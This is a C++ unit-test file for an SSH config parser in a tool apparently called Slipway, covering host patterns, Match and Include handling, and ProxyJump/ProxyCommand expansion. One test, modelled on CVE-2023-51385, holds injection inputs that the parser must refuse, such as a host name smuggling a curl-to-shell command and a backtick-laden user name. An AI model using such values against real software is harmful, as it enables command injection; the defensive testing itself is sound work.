// Unit tests of ~/.ssh/config parsing and target resolution: Host patterns (wildcards, negation, first
// value wins), HostName/User/Port/IdentityFile/ProxyJump/ProxyCommand/UserKnownHostsFile, tokens, Match
// (applied, or refused by file:line), Include (globs, nesting, loops), and errors that name the file and
// line.
#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>

#include "remote/ssh/ssh_config.h"
#include "temp_dir.h"

namespace slipway::remote {
namespace {

const char* kConfig = R"(# a typical HPC setup
Host login-* !login-old
    HostName %h.cluster.example.org
    User alice
    IdentityFile ~/.ssh/id_cluster
    ProxyJump bob@bastion.example.org:2222

Host bastion.example.org
    IdentityFile %d/.ssh/id_bastion

Host short
    HostName 10.0.0.5
    Port=2200
    UserKnownHostsFile "~/my known_hosts"

Host *
    User fallback
    Port 22
    IdentityFile ~/.ssh/id_all
)";

SshConfig parse(const char* text) {
    auto config = parse_ssh_config(text, "test_config");
    EXPECT_TRUE(config.ok()) << config.error();
    return *config;
}

SshHostConfig lookup(const SshConfig& config, const std::string& host) {
    auto found = config.lookup(host);
    EXPECT_TRUE(found.ok()) << found.error();
    return found.ok() ? *found : SshHostConfig{};
}

TEST(SshConfig, PatternsWildcardsAndNegation) {
    EXPECT_TRUE(ssh_host_matches({"login-*"}, "login-1"));
    EXPECT_TRUE(ssh_host_matches({"log?n-1"}, "login-1"));
    EXPECT_FALSE(ssh_host_matches({"login-?"}, "login-12"));
    EXPECT_TRUE(ssh_host_matches({"a,b,c"}, "b"));
    EXPECT_FALSE(ssh_host_matches({"login-*", "!login-old"}, "login-old"));
    EXPECT_FALSE(ssh_host_matches({"!login-old"}, "other"));  // a negation alone matches nothing
    EXPECT_TRUE(ssh_host_matches({"*"}, "anything"));
}

TEST(SshConfig, FirstValueWinsIdentityFilesAccumulate) {
    const SshConfig config = parse(kConfig);
    const SshHostConfig login = lookup(config, "login-7");
    EXPECT_EQ(login.hostname, "%h.cluster.example.org");
    EXPECT_EQ(login.user, "alice");  // not "fallback" from Host *
    EXPECT_EQ(login.port, 22);
    EXPECT_EQ(login.proxy_jump, "bob@bastion.example.org:2222");
    ASSERT_EQ(login.identity_files.size(), 2u);
    EXPECT_EQ(login.identity_files[0], "~/.ssh/id_cluster");
    EXPECT_EQ(login.identity_files[1], "~/.ssh/id_all");

    const SshHostConfig old = lookup(config, "login-old");
    EXPECT_EQ(old.user, "fallback");
    EXPECT_TRUE(old.hostname.empty());

    const SshHostConfig short_host = lookup(config, "short");
    EXPECT_EQ(short_host.port, 2200);  // "Port=2200" form
    EXPECT_EQ(short_host.user_known_hosts_file, "~/my known_hosts");
}

TEST(SshConfig, ResolveExpandsTokensAndExplicitOptionsWin) {
    const SshConfig config = parse(kConfig);
    ConnectOptions options;
    options.host = "login-7";
    auto target = resolve_ssh_target(options, config, "/home/me", "me");
    ASSERT_TRUE(target.ok()) << target.error();
    EXPECT_EQ(target->hostname, "login-7.cluster.example.org");
    EXPECT_EQ(target->user, "alice");
    EXPECT_EQ(target->port, 22);
    ASSERT_EQ(target->identity_files.size(), 2u);
    EXPECT_EQ(target->identity_files[0], "/home/me/.ssh/id_cluster");
    ASSERT_EQ(target->jumps.size(), 1u);
    EXPECT_EQ(target->jumps[0].user, "bob");
    EXPECT_EQ(target->jumps[0].host, "bastion.example.org");
    EXPECT_EQ(target->jumps[0].port, 2222);
    EXPECT_EQ(target->known_hosts_file, "/home/me/.ssh/known_hosts");

    options.user = "carol";
    options.port = 2022;
    options.identity_files = {"/keys/explicit"};
    options.proxy_jump = "none";
    target = resolve_ssh_target(options, config, "/home/me", "me");
    ASSERT_TRUE(target.ok()) << target.error();
    EXPECT_EQ(target->user, "carol");
    EXPECT_EQ(target->port, 2022);
    EXPECT_EQ(target->identity_files.front(), "/keys/explicit");
    EXPECT_TRUE(target->jumps.empty());

    ConnectOptions bastion;
    bastion.host = "bastion.example.org";
    target = resolve_ssh_target(bastion, config, "/home/me", "me");
    ASSERT_TRUE(target.ok());
    EXPECT_EQ(target->identity_files.front(), "/home/me/.ssh/id_bastion");
    EXPECT_EQ(target->user, "fallback");
}

TEST(SshConfig, DefaultsWithoutConfig) {
    ConnectOptions options;
    options.host = "example.org";
    auto target = resolve_ssh_target(options, SshConfig{}, "/home/me", "me");
    ASSERT_TRUE(target.ok());
    EXPECT_EQ(target->hostname, "example.org");
    EXPECT_EQ(target->port, 22);
    EXPECT_EQ(target->user, "me");
    EXPECT_EQ(target->identity_files.front(), "/home/me/.ssh/id_ed25519");
}

TEST(SshConfig, ProxyJumpForms) {
    auto hops = parse_proxy_jump("ssh://u@b:2200,[::1]:23,u2@c");
    ASSERT_TRUE(hops.ok()) << hops.error();
    ASSERT_EQ(hops->size(), 3u);
    EXPECT_EQ((*hops)[0].user, "u");
    EXPECT_EQ((*hops)[0].host, "b");
    EXPECT_EQ((*hops)[0].port, 2200);
    EXPECT_EQ((*hops)[1].host, "::1");
    EXPECT_EQ((*hops)[1].port, 23);
    EXPECT_EQ((*hops)[2].user, "u2");
    EXPECT_EQ((*hops)[2].port, 0);
    EXPECT_TRUE(parse_proxy_jump("none")->empty());
    EXPECT_FALSE(parse_proxy_jump("host:99999").ok());
    EXPECT_FALSE(parse_proxy_jump("u@:22").ok());
}

TEST(SshConfig, ErrorsNameFileAndLine) {
    auto config = parse_ssh_config("Host a\n  Port abc\n", "/home/me/.ssh/config");
    ASSERT_FALSE(config.ok());
    EXPECT_NE(config.error().find("/home/me/.ssh/config:2"), std::string::npos) << config.error();
    EXPECT_NE(config.error().find("abc"), std::string::npos);

    config = parse_ssh_config("Host a\n  HostName \"unterminated\n", "cfg");
    ASSERT_FALSE(config.ok());
    EXPECT_NE(config.error().find("cfg:2"), std::string::npos) << config.error();

    ConnectOptions options;
    options.host = "a";
    auto parsed = parse_ssh_config("Host a\n  IdentityFile ~/.ssh/%C\n", "cfg");
    ASSERT_TRUE(parsed.ok());
    auto target = resolve_ssh_target(options, *parsed, "/h", "me");
    ASSERT_FALSE(target.ok());
    EXPECT_NE(target.error().find("%C"), std::string::npos) << target.error();
}

TEST(SshConfig, MatchHostOriginalhostAndAllAreApplied) {
    const SshConfig config = parse(R"(Host login
    HostName login.cluster.org
Host n?
    HostName %h.cluster.org
Match host *.cluster.org
    User clusteruser
Match originalhost login !host other.org
    Port 2200
Match !originalhost n*
    ProxyJump bastion
Match all
    IdentityFile ~/.ssh/id_all
)");
    // Match host sees the HostName set above it (with %h expanded), originalhost the name as typed.
    SshHostConfig login = lookup(config, "login");
    EXPECT_EQ(login.hostname, "login.cluster.org");
    EXPECT_EQ(login.user, "clusteruser");
    EXPECT_EQ(login.port, 2200);
    EXPECT_EQ(login.proxy_jump, "bastion");
    ASSERT_EQ(login.identity_files.size(), 1u);
    EXPECT_EQ(login.identity_files[0], "~/.ssh/id_all");

    const SshHostConfig node = lookup(config, "n1");
    EXPECT_EQ(node.user, "clusteruser");
    EXPECT_EQ(node.port, 0);
    EXPECT_EQ(node.proxy_jump, "");  // negated originalhost
    EXPECT_EQ(node.identity_files.size(), 1u);

    const SshHostConfig other = lookup(config, "other.org");
    EXPECT_EQ(other.user, "");
    EXPECT_EQ(other.port, 0);
    EXPECT_EQ(other.proxy_jump, "bastion");
}

TEST(SshConfig, MatchCriteriaSlipwayCannotEvaluateRefuseTheHostsTheyMayApplyTo) {
    const SshConfig config = parse(R"(Host *
    ServerAliveInterval 30
Match host *.hpc.org exec "test -f ~/.vpn-up"
    User viaexec
)");
    // The block cannot apply to this host (its host criterion fails): no error, nothing applied.
    EXPECT_EQ(lookup(config, "laptop.home").user, "");
    // It may apply here: Slipway cannot run exec, so it refuses instead of guessing.
    auto refused = config.lookup("login.hpc.org");
    ASSERT_FALSE(refused.ok());
    EXPECT_NE(refused.error().find("test_config:3"), std::string::npos) << refused.error();
    EXPECT_NE(refused.error().find("Match exec"), std::string::npos) << refused.error();

    for (const char* criterion :
         {"user alice", "localuser alice", "canonical", "final", "!localnetwork 10.0.0.0/8", "tagged x"}) {
        const std::string text = std::string("Host a\n  User u\nMatch ") + criterion + "\n  Port 2\n";
        auto parsed = parse_ssh_config(text, "cfg");
        ASSERT_TRUE(parsed.ok()) << criterion << ": " << parsed.error();
        auto found = parsed->lookup("a");
        ASSERT_FALSE(found.ok()) << criterion;
        EXPECT_NE(found.error().find("cfg:3"), std::string::npos) << found.error();
        ConnectOptions options;
        options.host = "a";
        EXPECT_FALSE(resolve_ssh_target(options, *parsed, "/h", "me").ok()) << criterion;
    }
}

TEST(SshConfig, MalformedMatchLinesAreErrors) {
    for (const char* line : {"Match", "Match host", "Match bogus x", "Match all host a", "Match exec"}) {
        auto config = parse_ssh_config(std::string("Host a\n") + line + "\n", "cfg");
        ASSERT_FALSE(config.ok()) << line;
        EXPECT_NE(config.error().find("cfg:2"), std::string::npos) << config.error();
    }
}

// A home folder with ~/.ssh/ files for Include tests.
class SshConfigInclude : public ::testing::Test {
protected:
    void write(const std::string& relative, const std::string& text) {
        const std::filesystem::path path = std::filesystem::path(home_.path()) / ".ssh" / relative;
        std::filesystem::create_directories(path.parent_path());
        std::ofstream(path) << text;
    }
    Result<SshConfig> parse_main(const std::string& text) {
        return parse_ssh_config(text, home_.path() + "/.ssh/config", home_.path());
    }
    testing_support::TempDir home_{"slipway-sshconfig"};
};

TEST_F(SshConfigInclude, GlobsRelativeToDotSshInFileOrder) {
    write("config.d/20-b.conf", "Host b\n  User from-b\nHost *\n  Port 2020\n");
    write("config.d/10-a.conf", "Host a\n  User from-a\nHost *\n  Port 1010\n");
    write("config.d/ignored.txt", "Host *\n  User never\n");
    auto config = parse_main("Include config.d/*.conf ~/.ssh/none-*.conf\nHost *\n  User last\n");
    ASSERT_TRUE(config.ok()) << config.error();
    EXPECT_EQ(lookup(*config, "a").user, "from-a");
    EXPECT_EQ(lookup(*config, "b").user, "from-b");
    EXPECT_EQ(lookup(*config, "c").user, "last");
    EXPECT_EQ(lookup(*config, "c").port, 1010);  // 10-a.conf is read before 20-b.conf
}

TEST_F(SshConfigInclude, IncludeInsideABlockAppliesOnlyWhereTheBlockDoes) {
    write("cluster.conf", "User cluster-user\nHost *\n  IdentityFile ~/.ssh/id_cluster\n");
    auto config = parse_main(
        "Host login*\n  Port 2222\n  Include cluster.conf\n  HostName after.include\n"
        "Host *\n  User everyone\n");
    ASSERT_TRUE(config.ok()) << config.error();
    const SshHostConfig login = lookup(*config, "login1");
    EXPECT_EQ(login.user, "cluster-user");
    EXPECT_EQ(login.port, 2222);
    EXPECT_EQ(login.hostname, "after.include");  // the block goes on after the Include line
    ASSERT_EQ(login.identity_files.size(), 1u);
    const SshHostConfig other = lookup(*config, "other");
    EXPECT_EQ(other.user, "everyone");
    EXPECT_TRUE(other.identity_files.empty());  // the included "Host *" is inside "Host login*"
    EXPECT_TRUE(other.hostname.empty());
}

TEST_F(SshConfigInclude, ErrorsNameTheIncludeLineAndTheIncludedFile) {
    write("bad.conf", "Host x\n  Port many\n");
    auto config = parse_main("Host a\n  Include bad.conf\n");
    ASSERT_FALSE(config.ok());
    EXPECT_NE(config.error().find("/.ssh/config:2: Include 'bad.conf'"), std::string::npos) << config.error();
    EXPECT_NE(config.error().find("/.ssh/bad.conf:2: Port 'many'"), std::string::npos) << config.error();

    write("loop.conf", "Include loop.conf\n");
    config = parse_main("Include loop.conf\n");
    ASSERT_FALSE(config.ok());
    EXPECT_NE(config.error().find("16 files deep"), std::string::npos) << config.error();
    EXPECT_NE(config.error().find("loop.conf:1"), std::string::npos) << config.error();

    config = parse_main("Include /dev/null\n");  // a character device, not a config file
    ASSERT_FALSE(config.ok());
    EXPECT_NE(config.error().find("config:1"), std::string::npos) << config.error();

    auto no_home = parse_ssh_config("Include other\n", "cfg");
    ASSERT_FALSE(no_home.ok());
    EXPECT_NE(no_home.error().find("cfg:1"), std::string::npos) << no_home.error();
}

// CVE-2023-51385's shape: a host or user from clusters.json or --host must not become shell syntax in a
// ProxyCommand (libssh runs it through /bin/sh). Refused with the value, the token and the file:line;
// ordinary names, IPs and [v6] addresses still expand.
TEST(SshConfig, ProxyCommandRefusesShellCharactersInTokens) {
    auto config = parse_ssh_config("Host *\n    ProxyCommand ssh -W %h:%p bastion\n", "cfg");
    ASSERT_TRUE(config.ok()) << config.error();
    ConnectOptions options;
    options.host = "x;curl${IFS}evil|sh";
    auto target = resolve_ssh_target(options, *config, "/h", "me");
    ASSERT_FALSE(target.ok());
    EXPECT_NE(target.error().find("cfg:2"), std::string::npos) << target.error();
    EXPECT_NE(target.error().find("%h"), std::string::npos) << target.error();
    EXPECT_NE(target.error().find("x;curl${IFS}evil|sh"), std::string::npos) << target.error();

    options.host = "-oProxyCommand=x";
    EXPECT_FALSE(resolve_ssh_target(options, *config, "/h", "me").ok());
    options.host = "login";
    options.user = "a`id`";
    auto user_config = parse_ssh_config("Host *\n    ProxyCommand connect %r@%h %p\n", "cfg");
    ASSERT_TRUE(user_config.ok());
    target = resolve_ssh_target(options, *user_config, "/h", "me");
    ASSERT_FALSE(target.ok());
    EXPECT_NE(target.error().find("%r"), std::string::npos) << target.error();

    options.user = "first.last-2_x";
    for (const char* host : {"login-1.cluster.example.org", "10.0.0.5", "[fe80::1%eth0]"}) {
        options.host = host;
        target = resolve_ssh_target(options, *config, "/h", "me");
        ASSERT_TRUE(target.ok()) << host << ": " << target.error();
        EXPECT_EQ(target->proxy_command, std::string("ssh -W ") + host + ":22 bastion");
    }
    // Only a ProxyCommand is a shell command: the same host without one resolves (libssh never runs it).
    options.host = "x;y";
    EXPECT_TRUE(resolve_ssh_target(options, *parse_ssh_config("", "cfg"), "/h", "me").ok());
}

TEST(SshConfig, ProxyCommandIsExpandedAndExcludesProxyJump) {
    auto config = parse_ssh_config(R"(Host login
    HostName login.cluster.org
    User alice
    Port 2200
    ProxyCommand nc -X connect -x proxy:3128 %h %p # %r %n 100%%
    ProxyJump ignored-because-second
Host jumpfirst
    ProxyJump bastion
    ProxyCommand ignored-because-second
Host off
    ProxyCommand none
Host badtoken
    ProxyCommand connect %C
)",
                                   "cfg");
    ASSERT_TRUE(config.ok()) << config.error();
    ConnectOptions options;
    options.host = "login";
    auto target = resolve_ssh_target(options, *config, "/h", "me");
    ASSERT_TRUE(target.ok()) << target.error();
    EXPECT_EQ(target->proxy_command, "nc -X connect -x proxy:3128 login.cluster.org 2200 # alice login 100%");
    EXPECT_TRUE(target->jumps.empty());

    options.proxy_jump = "hop";  // explicit hops win, as ssh -J does
    target = resolve_ssh_target(options, *config, "/h", "me");
    ASSERT_TRUE(target.ok());
    EXPECT_TRUE(target->proxy_command.empty());
    ASSERT_EQ(target->jumps.size(), 1u);

    options.host = "jumpfirst";
    options.proxy_jump.clear();
    target = resolve_ssh_target(options, *config, "/h", "me");
    ASSERT_TRUE(target.ok());
    EXPECT_TRUE(target->proxy_command.empty());
    ASSERT_EQ(target->jumps.size(), 1u);
    EXPECT_EQ(target->jumps[0].host, "bastion");

    options.host = "off";
    target = resolve_ssh_target(options, *config, "/h", "me");
    ASSERT_TRUE(target.ok());
    EXPECT_TRUE(target->proxy_command.empty());

    options.host = "badtoken";
    target = resolve_ssh_target(options, *config, "/h", "me");
    ASSERT_FALSE(target.ok());
    EXPECT_NE(target.error().find("cfg:13"), std::string::npos) << target.error();
    EXPECT_NE(target.error().find("%C"), std::string::npos) << target.error();
}

}  // namespace
}  // namespace slipway::remote
